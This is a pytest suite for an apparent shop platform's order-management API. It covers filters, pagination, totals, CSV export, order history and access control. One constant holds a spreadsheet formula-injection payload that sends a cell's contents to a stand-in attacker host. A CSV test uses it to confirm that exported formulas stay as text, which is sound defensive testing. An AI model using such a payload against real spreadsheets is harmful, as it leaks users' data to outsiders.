"""The brand's orders as its managers work through them: the list filtered by episode, status and
dates a page at a time, the totals of what the filters keep, the CSV file, an order's history (who
moved it on, what its buyer was emailed), and nothing of it for anyone else."""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

import pytest
from sqlalchemy import update

from shopcast.catalog import order_export
from shopcast.catalog.models import Order
from shopcast.core.db import Database
from tests.catalog.conftest import DELIVERY, Shop
from tests.catalog.test_payments import SHOP_URL, confirm, confirmation
from tests.conftest import SettableClock
from tests.problems import refused

ORDERS = "/api/v1/brands/acme/orders"
EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")'


async def get(shop: Shop, path: str, params: dict[str, str] | None = None) -> Any:
    """A manager's GET that must succeed: the JSON body."""
    response = await shop.client.get(path, params=params or {}, headers=shop.room.manager.headers)
    assert response.status == 200, await response.text()
    return await response.json()


async def numbers(shop: Shop, **params: str) -> list[str]:
    return [order["number"] for order in await get(shop, ORDERS, params)]


async def totals(shop: Shop, **params: str) -> dict[str, Any]:
    return await get(shop, f"{ORDERS}/totals", params)


async def three_orders(shop: Shop, clock: SettableClock) -> tuple[dict[str, Any], ...]:
    """Lea buys one S during the live (10:00), Tom two M delivered during it (11:00), Ann one S after it,
    outside the live (12:00)."""
    lea, tom, ann = await shop.guest("Lea"), await shop.guest("Tom"), await shop.guest("Ann")
    leas = await shop.buy(lea, "lea-1")
    clock.advance(hours=1)
    await shop.add(tom, "M", 2)
    toms = await shop.placed(tom, "tom-1", email="tom@example.com", name="Tom", shipping=DELIVERY)
    clock.advance(hours=1)
    await shop.add(ann, "S", live=False)
    anns = await shop.placed(ann, "ann-1", email="ann@example.com", name="Ann")
    return leas, toms, anns


async def test_the_list_is_filtered_by_episode_status_and_dates_with_the_totals_of_what_it_keeps(
    shop: Shop, clock: SettableClock
) -> None:
    leas, toms, anns = await three_orders(shop, clock)
    lea, tom, ann = leas["number"], toms["number"], anns["number"]
    assert leas["items"][0]["episode_id"] == shop.episode_id and anns["items"][0]["episode_id"] is None

    assert await numbers(shop) == [ann, tom, lea]  # newest first
    assert await numbers(shop, episode_id=shop.episode_id) == [tom, lea]
    assert await numbers(shop, episode_id=str(uuid.uuid4())) == []
    assert await numbers(shop, since="2026-09-20T11:00:00Z") == [ann, tom]  # from that instant on
    assert await numbers(shop, until="2026-09-20T13:30:00+02:00") == [tom, lea]  # before it (11:30 UTC)
    assert await numbers(shop, since="2026-09-20T12:00:00+02:00", until="2026-09-20T11:00:00Z") == [lea]
    assert (await shop.move(toms["id"], "paid")).status == 200
    assert (await shop.move(anns["id"], "cancelled")).status == 200
    assert await numbers(shop, status="paid") == [tom]
    assert await numbers(shop, status="pending_payment", episode_id=shop.episode_id) == [lea]

    # Pickup is free, delivery of 99.80 € costs 4.90 €; Ann's cancelled order counts, but not its money.
    assert await totals(shop) == {
        "orders": 3,
        "cancelled": 1,
        "units": 3,
        "revenue": [{"currency": "EUR", "amount": 4990 + 9980 + 490}],
    }
    assert await totals(shop, episode_id=shop.episode_id, status="paid") == {
        "orders": 1,
        "cancelled": 0,
        "units": 2,
        "revenue": [{"currency": "EUR", "amount": 9980 + 490}],
    }
    assert await totals(shop, status="cancelled") == {
        "orders": 1,
        "cancelled": 1,
        "units": 0,
        "revenue": [{"currency": "EUR", "amount": 0}],
    }
    assert await totals(shop, since="2026-09-21T00:00:00Z") == {"orders": 0, "cancelled": 0, "units": 0, "revenue": []}


async def test_revenue_is_given_per_currency(shop: Shop, clock: SettableClock, database: Database) -> None:
    leas, _, _ = await three_orders(shop, clock)
    # A brand keeps one currency while it has products; an order from before a change of currency keeps its own.
    async with database.transaction() as session:
        await session.execute(update(Order).where(Order.id == uuid.UUID(leas["id"])).values(currency="CHF"))
    assert (await totals(shop))["revenue"] == [
        {"currency": "CHF", "amount": 4990},
        {"currency": "EUR", "amount": 9980 + 490 + 4990},
    ]


async def test_pages_follow_one_another_without_a_gap_or_a_repeat(shop: Shop, clock: SettableClock) -> None:
    placed = [order["number"] for order in await three_orders(shop, clock)]
    lea = await shop.guest("Lea again")
    await shop.add(lea, "S")
    placed.append((await shop.placed(lea, "lea-2"))["number"])  # in the same instant as Ann's
    seen: list[str] = []
    page = await get(shop, ORDERS, {"limit": "1"})
    while page:
        seen += [order["number"] for order in page]
        page = await get(shop, ORDERS, {"limit": "1", "after_id": page[-1]["id"]})
    assert seen == await numbers(shop) and sorted(seen) == sorted(placed)
    assert seen[2:] == [placed[1], placed[0]]
    two = await get(shop, ORDERS, {"limit": "2", "status": "pending_payment"})
    rest = await get(shop, ORDERS, {"limit": "2", "status": "pending_payment", "after_id": two[-1]["id"]})
    assert [o["number"] for o in two + rest] == seen


@pytest.mark.parametrize(
    ("params", "reason"),
    [
        ({"since": "2026-09-20T12:00:00Z", "until": "2026-09-20T12:00:00Z"}, "since must come before until"),
        ({"since": "2026-09-20T12:00:00"}, "since: "),  # no offset: which 12:00?
        ({"until": "yesterday"}, "until: "),
        ({"status": "shipped"}, "status: "),
        ({"episode_id": "live"}, "episode_id: "),
        ({"after_id": str(uuid.uuid4())}, "after_id: no such order in this brand"),
        ({"limit": "501"}, "limit: "),
    ],
)
async def test_filters_that_make_no_sense_are_refused_with_the_reason(
    shop: Shop, params: dict[str, str], reason: str
) -> None:
    response = await shop.client.get(ORDERS, params=params, headers=shop.room.manager.headers)
    await refused(response, 422, reason)
    if "after_id" not in params and "limit" not in params:
        for path in (f"{ORDERS}/totals", f"{ORDERS}.csv"):
            response = await shop.client.get(path, params=params, headers=shop.room.manager.headers)
            await refused(response, 422, reason)


async def test_another_brands_order_cannot_mark_a_page(shop: Shop) -> None:
    rival = await shop.rival()
    coat = rival.product["variants"][0]["id"]
    buyer = await shop.guest("Max")
    added = await shop.client.post(f"/api/v1/brands/{rival.slug}/cart/items", json={"variant_id": coat}, headers=buyer)
    assert added.status == 201, await added.text()
    body = {"email": "max@example.com", "name": "Max", "shipping": DELIVERY}
    theirs = await shop.client.post(
        f"/api/v1/brands/{rival.slug}/orders", json=body, headers={**buyer, "Idempotency-Key": "max-1"}
    )
    assert theirs.status == 201, await theirs.text()
    after = (await theirs.json())["id"]
    response = await shop.client.get(ORDERS, params={"after_id": after}, headers=shop.room.manager.headers)
    await refused(response, 422, "after_id: no such order in this brand")


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), body[:10]  # the BOM: Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(body.decode("utf-8").removeprefix("\ufeff"), newline="")))


async def export(shop: Shop, **params: str) -> tuple[Any, list[dict[str, str]]]:
    response = await shop.client.get(f"{ORDERS}.csv", params=params, headers=shop.room.manager.headers)
    assert response.status == 200, await response.text()
    return response, read_csv(await response.read())


async def test_the_csv_has_a_row_per_line_and_keeps_formulas_as_text(shop: Shop, clock: SettableClock) -> None:
    await shop.sell(
        pickup_stores=[{"id": "paris-1", "name": "@Marais", "address": "12 rue des Archives, Paris"}],
    )
    lea, tom = await shop.guest("Lea"), await shop.guest("Tom")
    await shop.add(lea, "S")
    clock.advance(seconds=1)
    await shop.add(lea, "M", 2)
    leas = await shop.placed(lea, "lea-1", name=EVIL, email="lea@example.com")
    clock.advance(minutes=30)
    await shop.add(tom, "S", live=False)
    toms = await shop.placed(tom, "tom-1", name="-Tom+", email="tom@example.com", shipping=DELIVERY)
    assert (await shop.move(toms["id"], "paid")).status == 200

    response, rows = await export(shop)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="orders-acme-2026-09-20.csv"'
    assert list(rows[0]) == list(order_export.COLUMNS)
    assert [(row["order_number"], row["sku"]) for row in rows] == [
        (toms["number"], "DRESS-S"),
        (leas["number"], "DRESS-S"),  # in the cart's order
        (leas["number"], "DRESS-M"),
    ]
    assert [item["sku"] for item in leas["items"]] == ["DRESS-S", "DRESS-M"]
    tom_row, lea_s, lea_m = rows
    # What a spreadsheet would run is text: the buyer's name, the store's.
    assert lea_s["buyer_name"] == "'" + EVIL and lea_m["buyer_name"] == "'" + EVIL
    assert lea_s["ship_to"] == "'@Marais, 12 rue des Archives, Paris"
    assert tom_row["buyer_name"] == "'-Tom+"
    assert tom_row["ship_to"] == "3 rue Oberkampf, 75011 Paris, FR"
    assert lea_m | {"buyer_name": ""} == {
        "order_number": leas["number"],
        "order_id": leas["id"],
        "placed_at_utc": "2026-09-20 10:00:01",
        "status": "pending_payment",
        "buyer_name": "",
        "buyer_email": "lea@example.com",
        "shipping_method": "pickup",
        "ship_to": "'@Marais, 12 rue des Archives, Paris",
        "payment": "pay_later",
        "paid_at_utc": "",
        "fulfilled_at_utc": "",
        "cancelled_at_utc": "",
        "episode": "Tuesday Night Live",
        "episode_starts_at_utc": "2026-09-22 17:00:00",
        "sku": "DRESS-M",
        "product": "Linen dress",
        "variant": "M",
        "quantity": "2",
        "unit_price": "49.90",
        "deal_quantity": "0",
        "deal_price": "",
        "line_total": "99.80",
        "currency": "EUR",
        "order_shipping": "0.00",
        "order_tax": "24.95",
        "order_tax_included": "yes",
        "order_total": "149.70",
    }
    assert (tom_row["episode"], tom_row["paid_at_utc"]) == ("", "2026-09-20 10:30:01")
    assert (tom_row["order_shipping"], tom_row["order_total"]) == ("4.90", "54.80")

    # The same filters as the list.
    _, paid = await export(shop, status="paid")
    assert [row["order_number"] for row in paid] == [toms["number"]]
    _, none = await export(shop, since="2026-09-21T00:00:00Z")
    assert none == []


async def test_a_csv_too_large_for_one_file_is_refused_with_what_to_do(
    shop: Shop, clock: SettableClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    await three_orders(shop, clock)
    monkeypatch.setattr(order_export, "EXPORT_MAX_ORDERS", 2)
    response = await shop.client.get(f"{ORDERS}.csv", headers=shop.room.manager.headers)
    await refused(response, 422, "3 orders match, more than the 2 a file holds: export them in parts, by dates")
    _, rows = await export(shop, episode_id=shop.episode_id)
    assert len(rows) == 2


async def history(shop: Shop, order_id: str) -> dict[str, Any]:
    return await get(shop, f"/api/v1/orders/{order_id}/history")


def changes(found: dict[str, Any]) -> list[tuple[str, str, str | None, str | None]]:
    return [(c["status"], c["at"], c["by"], c["by_name"]) for c in found["changes"]]


async def test_each_move_says_when_and_who_and_what_the_buyer_was_emailed(shop: Shop, clock: SettableClock) -> None:
    lea = await shop.guest("Lea")
    order = await shop.buy(lea, "lea-1")
    manager = shop.room.manager.email.split("@")[0]  # the display name staff get by default
    clock.advance(minutes=5)
    assert (await shop.move(order["id"], "paid")).status == 200
    # Paying twice, fulfilling a cancelled order: refused with why, and nothing is noted.
    await refused(await shop.move(order["id"], "paid"), 409, "the order is paid: it cannot become paid")
    clock.advance(minutes=5)
    assert (await shop.move(order["id"], "fulfilled")).status == 200

    found = await history(shop, order["id"])
    assert changes(found) == [
        ("pending_payment", "2026-09-20T10:00:00Z", "buyer", "Léa Martin"),
        ("paid", "2026-09-20T10:05:00Z", "staff", manager),
        ("fulfilled", "2026-09-20T10:10:00Z", "staff", manager),
    ]
    assert [(e["template"], e["to"], e["state"], e["created_at"]) for e in found["emails"]] == [
        ("order_confirmed", "lea@example.com", "pending", "2026-09-20T10:00:00Z"),
        ("order_paid", "lea@example.com", "pending", "2026-09-20T10:05:00Z"),
        ("order_ready", "lea@example.com", "pending", "2026-09-20T10:10:00Z"),  # a pickup order
    ]

    tom = await shop.guest("Tom")
    await shop.add(tom, "M", live=False)
    toms = await shop.placed(tom, "tom-1", name="Tom", email="tom@example.com", shipping=DELIVERY)
    clock.advance(minutes=1)
    assert (await shop.move(toms["id"], "cancelled")).status == 200
    await refused(await shop.move(toms["id"], "fulfilled"), 409, "the order is cancelled: it cannot become fulfilled")
    found = await history(shop, toms["id"])
    assert [(c["status"], c["by"]) for c in found["changes"]] == [("pending_payment", "buyer"), ("cancelled", "staff")]
    assert [e["template"] for e in found["emails"]] == ["order_confirmed", "order_cancelled"]


async def test_a_payment_the_brands_shop_confirms_is_noted_as_the_shops(shop: Shop, clock: SettableClock) -> None:
    secret = (await shop.sell(shop_checkout_url=SHOP_URL))["shop_secret"]
    order = await shop.buy(await shop.guest(), "lea-1", payment="brand_shop")
    clock.advance(minutes=1)
    assert (await confirm(shop, confirmation(secret, order["id"], clock))).status == 200
    assert (await confirm(shop, confirmation(secret, order["id"], clock))).status == 200  # sent twice: noted once
    found = await history(shop, order["id"])
    assert changes(found)[1:] == [("paid", "2026-09-20T10:01:00Z", "brand_shop", None)]
    assert [e["template"] for e in found["emails"]] == ["order_confirmed", "order_paid"]


async def test_a_move_made_before_moves_were_noted_says_when_but_not_who(
    shop: Shop, clock: SettableClock, database: Database
) -> None:
    order = await shop.buy(await shop.guest(), "lea-1")
    async with database.transaction() as session:  # as an order paid before this version left it
        paid = update(Order).where(Order.id == uuid.UUID(order["id"])).values(status="paid", paid_at=clock.now())
        await session.execute(paid)
    assert changes(await history(shop, order["id"]))[1:] == [("paid", "2026-09-20T10:00:00Z", None, None)]


async def test_a_cancelled_order_puts_its_units_back_on_sale(shop: Shop) -> None:
    lea, tom = await shop.guest("Lea"), await shop.guest("Tom")
    assert (await shop.stock("S"), await shop.stock("M")) == (5, 3)
    await shop.add(lea, "S", 2)
    await shop.add(lea, "M", 1, live=False)
    leas = await shop.placed(lea, "lea-1")
    toms = await shop.buy(tom, "tom-1", "M")
    assert (await shop.stock("S"), await shop.stock("M")) == (3, 1)
    assert (await shop.move(leas["id"], "paid")).status == 200
    assert (await shop.move(leas["id"], "cancelled")).status == 200
    assert (await shop.stock("S"), await shop.stock("M")) == (5, 2)  # Lea's three units, not Tom's
    await refused(await shop.move(leas["id"], "cancelled"), 409, "the order is cancelled: it cannot become cancelled")
    assert (await shop.stock("S"), await shop.stock("M")) == (5, 2)  # not twice
    assert (await shop.move(toms["id"], "cancelled")).status == 200
    assert (await shop.stock("S"), await shop.stock("M")) == (5, 3)


async def test_nobody_but_the_brands_managers_sees_its_orders(shop: Shop) -> None:
    lea = await shop.guest("Lea")
    order = await shop.buy(lea, "lea-1")
    rival = await shop.rival()
    room = shop.room
    listings = (ORDERS, f"{ORDERS}/totals", f"{ORDERS}.csv")
    for headers, status, reason in [
        (room.host.headers, 403, "this needs the manager role; you are host"),
        (room.moderator.headers, 403, "this needs the manager role; you are moderator"),
        (lea, 403, "guests cannot do this"),
        (rival.manager.headers, 403, "you have no role in this brand"),
        ({}, 401, "sign in first"),
    ]:
        for path in listings:
            await refused(await shop.client.get(path, headers=headers), status, reason)
    # An order by its id: another brand's staff are not told it exists.
    one, its_history = f"/api/v1/orders/{order['id']}", f"/api/v1/orders/{order['id']}/history"
    for path in (one, its_history):
        await refused(await shop.client.get(path, headers=rival.manager.headers), 404, f"no order {order['id']}")
        await refused(await shop.client.get(path), 401, "sign in first")
    await refused(await shop.move(order["id"], "cancelled", rival.manager.headers), 404, f"no order {order['id']}")
    await refused(await shop.client.get(its_history, headers=room.host.headers), 403, "this needs the manager role")
    await refused(await shop.client.get(its_history, headers=lea), 403, "guests cannot do this")
    # Their own list, totals and file hold none of this brand's orders.
    their = rival.manager.headers
    assert await (await shop.client.get(f"/api/v1/brands/{rival.slug}/orders", headers=their)).json() == []
    response = await shop.client.get(f"/api/v1/brands/{rival.slug}/orders/totals", headers=their)
    assert (await response.json())["orders"] == 0
    response = await shop.client.get(f"/api/v1/brands/{rival.slug}/orders.csv", headers=their)
    assert read_csv(await response.read()) == []
    assert (await shop.order_seen(lea, order["id"]))["status"] == "pending_payment"


async def test_a_refusal_is_said_in_the_language_asked_for(shop: Shop, clock: SettableClock) -> None:
    french = {**shop.room.manager.headers, "Accept-Language": "fr-FR,fr;q=0.9"}
    dates = {"since": "2026-09-20T12:00:00Z", "until": "2026-09-20T11:00:00Z"}
    response = await shop.client.get(f"{ORDERS}/totals", params=dates, headers=french)
    await refused(response, 422, "since doit venir avant until")
    response = await shop.client.get(ORDERS, params={"after_id": str(uuid.uuid4())}, headers=french)
    await refused(
        response,
        422,
        "after_id\N{NO-BREAK SPACE}: aucune commande de cette marque n\N{RIGHT SINGLE QUOTATION MARK}a cet identifiant",
    )
    order = await shop.buy(await shop.guest(), "lea-1")
    assert (await shop.move(order["id"], "cancelled")).status == 200
    response = await shop.client.post(f"/api/v1/orders/{order['id']}/status", json={"status": "paid"}, headers=french)
    await refused(response, 409, "la commande est annulée\N{NO-BREAK SPACE}: elle ne peut pas devenir payée")
